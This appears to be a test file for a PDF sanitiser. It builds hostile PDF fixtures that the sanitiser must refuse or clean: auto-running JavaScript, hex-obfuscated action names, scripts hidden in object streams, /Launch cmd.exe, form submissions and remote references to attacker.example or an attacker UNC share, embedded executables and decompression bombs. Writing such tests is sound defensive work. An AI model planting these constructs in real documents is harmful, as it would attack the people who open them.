import { deflateSync } from 'node:zlib'
import { expect, test, vi } from 'vitest'
import { aPdf, aRawPdf, packed } from '../../../test/upload-builders.ts'
import { parsePdf } from './parse-pdf.ts'
import { rewritePdf } from './rewrite-pdf.ts'

// Large documents on a busy machine.
vi.setConfig({ testTimeout: 20_000 })

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>'
const LINK = '/Type /Annot /Subtype /Link /Rect [0 0 9 9]'

test.each<[string, Buffer, string]>([
  ['that runs a script when it opens', aRawPdf({ catalog: `/OpenAction ${SCRIPT}` }), 'file-unsafe'],
  [
    'with a script in other letters',
    aRawPdf({ catalog: '/Open#41ction << /S /J#61vaScrip#74 /#4a#53 (app.alert(1)) >>' }),
    'file-unsafe',
  ],
  [
    'with a script among packed objects',
    aRawPdf({ catalog: '/OpenAction 10 0 R', objects: packed(`10 0 ${SCRIPT}`) }),
    'file-unsafe',
  ],
  [
    'whose packed objects have a harmless stream in front of the true one',
    aRawPdf({
      catalog: '/OpenAction 10 0 R',
      objects: packed(
        `10 0 ${SCRIPT}`,
        `/Filter /FlateDecode /X(stream\n${deflateSync('10 0 << /S /GoTo >>').toString('latin1')})`,
      ),
    }),
    'file-unsafe',
  ],
  [
    'whose script came with a later version',
    Buffer.concat([
      aRawPdf(),
      Buffer.from(
        `1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
      ),
    ]),
    'file-unsafe',
  ],
  [
    'with a script among its names',
    aRawPdf({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
    'file-unsafe',
  ],
  ['with a script behind a page', aRawPdf({ page: `/AA << /O ${SCRIPT} >>` }), 'file-unsafe'],
  ['with a script behind a link', aRawPdf({ page: `/Annots [<< ${LINK} /A ${SCRIPT} >>]` }), 'file-unsafe'],
  [
    'with a script behind a link that goes to a page first',
    aRawPdf({ page: `/Annots [<< ${LINK} /A << /S /GoTo /D [3 0 R /Fit] /Next [${SCRIPT}] >> >>]` }),
    'file-unsafe',
  ],
  [
    'with a script behind a field',
    aRawPdf({
      catalog: '/AcroForm << /Fields [10 0 R] >>',
      objects: `10 0 obj << /FT /Tx /T (a) /AA << /K ${SCRIPT} >> >> endobj`,
    }),
    'file-unsafe',
  ],
  [
    'with a script behind a bookmark',
    aRawPdf({
      catalog: '/Outlines << /First 10 0 R /Last 10 0 R >>',
      objects: `10 0 obj << /Title (a) /A ${SCRIPT} >> endobj`,
    }),
    'file-unsafe',
  ],
  [
    'with a script among its fonts',
    aRawPdf({ page: `/Resources << /Font << /F1 ${SCRIPT} >> >>` }),
    'file-unsafe',
  ],
  ...[
    '/Launch /F (cmd.exe)',
    '/GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) /D [0 /Fit]',
    '/GoToE /F (\\\\\\\\attacker\\\\share\\\\a.pdf) /D [0 /Fit]',
    '/SubmitForm /F (https://attacker.example/)',
    '/ImportData /F (a.fdf)',
    '/Rendition /OP 0',
    '/RichMediaExecute',
  ].flatMap((entries): [string, Buffer, string][] => [
    [
      `with ${entries.split(' ')[0]} behind a link`,
      aRawPdf({ page: `/Annots [<< ${LINK} /A << /S ${entries} >> >>]` }),
      'file-unsafe',
    ],
    [
      `with ${entries.split(' ')[0]} when it opens`,
      aRawPdf({ catalog: `/OpenAction << /S ${entries} >>` }),
      'file-unsafe',
    ],
  ]),
  [
    'that opens a web page by itself',
    aRawPdf({ catalog: '/OpenAction << /S /URI /URI (https://attacker.example/) >>' }),
    'file-unsafe',
  ],
  [
    'with a file inside',
    aRawPdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>',
      objects: '10 0 obj << /Type /Filespec /F (a.exe) >> endobj',
    }),
    'file-unsafe',
  ],
  [
    'with a file pinned to a page',
    aRawPdf({ page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]' }),
    'file-unsafe',
  ],
  ['with a film', aRawPdf({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' }), 'file-unsafe'],
  ['that is a folder of files', aRawPdf({ catalog: '/Collection << /View /D >>' }), 'file-unsafe'],
  [
    'with a form that scripts',
    aRawPdf({ catalog: '/AcroForm << /Fields [] /XFA [(a) 3 0 R] >>' }),
    'file-unsafe',
  ],
  ['with a password', aRawPdf({ trailer: '/Encrypt << /Filter /Standard >>' }), 'file-locked'],
  [
    'with a password that a cross-reference stream tells of',
    aRawPdf({
      objects:
        '9 0 obj << /Type /XRef /Size 2000000000 /W [1 2 1] /Root 1 0 R /Encrypt 8 0 R /Length 0 >>\nstream\n\nendstream endobj',
    }),
    'file-locked',
  ],
  [
    'whose packed objects are packed with a predictor that another object names',
    aRawPdf({
      catalog: '/OpenAction 10 0 R',
      objects: `6 0 obj << /Predictor 12 /Columns 1 >> endobj\n${packed(
        `10 0 ${SCRIPT}`,
        '/Filter /FlateDecode /DecodeParms 6 0 R',
        deflateSync(Buffer.from([...Buffer.from(`10 0 ${SCRIPT}`)].flatMap((byte) => [0, byte]))),
      )}`,
    }),
    'file-unreadable',
  ],
  [
    'whose packed objects are a bomb',
    aRawPdf({ objects: packed(`10 0 << >> ${' '.repeat(40 * 1024 * 1024)}`) }),
    'file-unreadable',
  ],
  [
    'of 50,001 objects',
    aRawPdf({ objects: many((i) => `${i + 10} 0 obj 1 endobj `, 50_001) }),
    'file-unreadable',
  ],
  [
    'that shows one page 3,000 times',
    aRawPdf({ objects: `2 0 obj << /Kids [${many(() => '3 0 R ', 3000)}] >> endobj` }),
    'file-unreadable',
  ],
  ['without a page', aRawPdf({ objects: '2 0 obj << /Kids [2 0 R] >> endobj' }), 'file-unreadable'],
  ['whose only page cannot be read', aRawPdf({ objects: '3 0 obj << /Type ) >> endobj' }), 'file-unreadable'],
])('a PDF %s is refused', async (_, pdf, code) => {
  await expect(rewritePdf(pdf)).rejects.toMatchObject({ code })
})

test.each<[string, Buffer, { without?: RegExp; with?: RegExp }]>([
  ['a plain one', aRawPdf(), { with: /Hello/ }],
  [
    'one whose objects are packed',
    aRawPdf({ page: '/Annots [10 0 R]', objects: packed(`10 0 << ${LINK} /Dest [3 0 R /Fit] >>`) }),
    { with: /\/Dest \[ 3 0 R \/Fit \]/ },
  ],
  [
    'one with links to an e-mail address and a web page, which lose what they do',
    aRawPdf({
      page: `/Annots [<< ${LINK} /A << /S /URI /URI (mailto:somchai@example.com) >> >> << ${LINK} /A 10 0 R >>]`,
      objects: '10 0 obj << /S /URI /URI (https://example.com/) >> endobj',
    }),
    { with: /\/Link/, without: /URI|mailto|example/ },
  ],
  [
    'one that opens at a page, with bookmarks and names of places',
    aRawPdf({
      catalog:
        '/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /Outlines << /First 10 0 R /Last 10 0 R >> /Names << /Dests << /Names [(b) [3 0 R /Fit]] >> >>',
      objects: '10 0 obj << /Title (One) /A << /S /GoTo /D (b) >> >> endobj',
    }),
    { with: /GoTo[\s\S]*One/ },
  ],
  [
    'one whose form fields are filled in',
    aRawPdf({
      catalog: '/AcroForm << /Fields [10 0 R] /NeedAppearances true >>',
      page: '/Annots [10 0 R]',
      objects:
        '10 0 obj << /Subtype /Widget /FT /Tx /T (name) /V (Somchai) /Rect [0 0 9 9] /P 3 0 R >> endobj',
    }),
    { with: /Somchai/ },
  ],
  [
    'one with a signature, which is no longer one',
    aRawPdf({
      catalog: '/AcroForm << /Fields [10 0 R] /SigFlags 3 >>',
      objects: '10 0 obj << /FT /Sig /T (a) /V << /Type /Sig /ByteRange [0 1 2 3] >> >> endobj',
    }),
    { without: /ByteRange|SigFlags/ },
  ],
  [
    'an electronic invoice, without the data that belong to it',
    aRawPdf({
      catalog: '/AF [10 0 R] /Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>',
      objects: '10 0 obj << /Type /Filespec /F (invoice.xml) /AFRelationship /Data >> endobj',
    }),
    { without: /invoice|Filespec/ },
  ],
  [
    'one that says who wrote it, when and with what',
    aRawPdf({
      catalog: '/Metadata 10 0 R',
      objects:
        '10 0 obj << /Type /Metadata /Length 3 >>\nstream\nXMP\nendstream endobj 11 0 obj << /Author (Somchai) >> endobj',
      trailer: '/Info 11 0 R',
    }),
    { without: /XMP|Author/ },
  ],
  [
    'one whose pages speak of scripts',
    aRawPdf({ page: '/Contents [4 0 R] /X (JavaScript)' }),
    { with: /Hello/ },
  ],
  [
    'one with a script that nothing leads to',
    aRawPdf({ objects: `10 0 obj ${SCRIPT} endobj` }),
    { without: /JavaScript|alert/ },
  ],
  [
    'one whose script is of an earlier version',
    Buffer.concat([
      aRawPdf({ catalog: `/OpenAction ${SCRIPT}` }),
      Buffer.from('1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    ]),
    { without: /JavaScript|alert/ },
  ],
  [
    'one with packed objects in a packed object, which no reader unpacks',
    aRawPdf({
      catalog: '/OpenAction 10 0 R',
      objects: packed(`12 0 << /Type /ObjStm /N 1 /First 5 /Length 45 >> stream\n10 0 ${SCRIPT}\nendstream`),
    }),
    { without: /JavaScript|alert/ },
  ],
  [
    'one with a picture that would be fetched from elsewhere',
    aRawPdf({
      page: '/Resources << /XObject << /I 10 0 R >> >>',
      objects:
        '10 0 obj << /Subtype /Form /F (\\\\attacker\\share) /FFilter /FlateDecode /Ref << /F (a.pdf) >> /Length 2 >>\nstream\nqQ\nendstream endobj',
    }),
    { with: /qQ/, without: /attacker|a\.pdf/ },
  ],
  [
    'one with packed objects among its pictures',
    aRawPdf({
      page: '/Resources << /XObject << /I 10 0 R >> >>',
      objects: `8 0 obj /ObjStm endobj 10 0 obj << /Type 8 0 R /N 1 /First 5 /Length 45 >>\nstream\n10 0 ${SCRIPT}\nendstream endobj`,
    }),
    { without: /ObjStm|JavaScript/ },
  ],
  [
    'one with the text of a font that says Bitstream, and its length elsewhere',
    aRawPdf({
      page: '/Resources << /Font << /F1 << /FontFile 10 0 R >> >> >>',
      objects: '10 0 obj << /Length 11 0 R >>\nstream\n(c) Bitstream\nendstream endobj 11 0 obj 13 endobj',
    }),
    { with: /Bitstream/ },
  ],
  [
    'one with glyphs called A, S, F and JS',
    aRawPdf({
      page: '/Resources << /Font << /A << /Subtype /Type3 /CharProcs << /A 4 0 R /S 4 0 R /F 4 0 R /JS 4 0 R >> >> >> >>',
    }),
    { with: /\/A \d+ 0 R\s*\/S \d+ 0 R\s*\/F \d+ 0 R\s*\/JS/ },
  ],
  [
    'one with rubbish between hexadecimal digits',
    aRawPdf({ page: '/Annots [<< /Subtype /Text /Contents <41 /S /JavaScript 42> >>]' }),
    { without: /JavaScript/ },
  ],
  ['one with bytes behind its end', Buffer.concat([aRawPdf(), Buffer.from('PK\x03\x04')]), { without: /PK/ }],
  [
    'one whose chain of 20,000 objects ends where it began',
    aRawPdf({
      page: '/Resources 10 0 R',
      objects: `${many((i) => `${i + 10} 0 obj [${i + 11} 0 R] endobj `, 20_000)} 20010 0 obj [10 0 R] endobj`,
    }),
    { with: /20001 0 R/ },
  ],
])('%s is taken', async (_, pdf, expected) => {
  const written = await rewritePdf(pdf)

  const text = await textOf(written)
  expect(text.match(/\/Type \/Page\b/g)).toHaveLength(1)
  if (expected.with) expect(text).toMatch(expected.with)
  if (expected.without) expect(Buffer.from(written).toString('latin1')).not.toMatch(expected.without)
})

test('pages stay in their order and keep what they inherit', async () => {
  const pdf = aRawPdf({
    objects: `2 0 obj << /Kids [8 0 R 3 0 R] /MediaBox [0 0 50 50] /Rotate 90 >> endobj
      8 0 obj << /Kids [9 0 R] /Rotate 180 >> endobj
      9 0 obj << /Type /Page >> endobj`,
  })

  const text = await textOf(await rewritePdf(pdf))
  const [, kids] = /\/Kids \[ (.*?) \]/.exec(text)!
  const [first, second] = kids!
    .split(' 0 R')
    .map((number) => new RegExp(`^${number.trim()} obj ([\\s\\S]*?)^>>`, 'm').exec(text)?.[1])

  expect(first).toMatch(/MediaBox \[ 0 0 50 50 \][\s\S]*Rotate 180/)
  expect(second).toMatch(/MediaBox \[ 0 0 200 200 \][\s\S]*Rotate 90/)
})

test('a picture whose last bytes make an archive of the document is refused', async () => {
  const withRecord = (commentLength: number) => {
    const record = Buffer.alloc(22)
    record.write('PK\x05\x06', 'latin1')
    record.writeUInt16LE(commentLength, 20)
    return aRawPdf({
      page: '/Resources << /X 10 0 R >>',
      objects: `10 0 obj << /Length 22 >>\nstream\n${record.toString('latin1')}\nendstream endobj`,
    })
  }
  const written = Buffer.from(await rewritePdf(withRecord(0)))
  const commentLength = written.length - written.indexOf('PK\x05\x06', 0, 'latin1') - 22

  await expect(rewritePdf(withRecord(commentLength))).rejects.toMatchObject({ code: 'file-unsafe' })
})

test('what was written once is written the same again', async () => {
  expect(Buffer.from(await rewritePdf(aPdf()))).toEqual(aPdf())
})

function many(make: (index: number) => string, count: number): string {
  return Array.from({ length: count }, (_, i) => make(i)).join('')
}

/** All objects as text. */
async function textOf(pdf: Uint8Array): Promise<string> {
  const context = await parsePdf(pdf)
  return context
    .enumerateIndirectObjects()
    .map(([ref, object]) => `${ref.objectNumber} obj ${object}`)
    .join('\n')
}
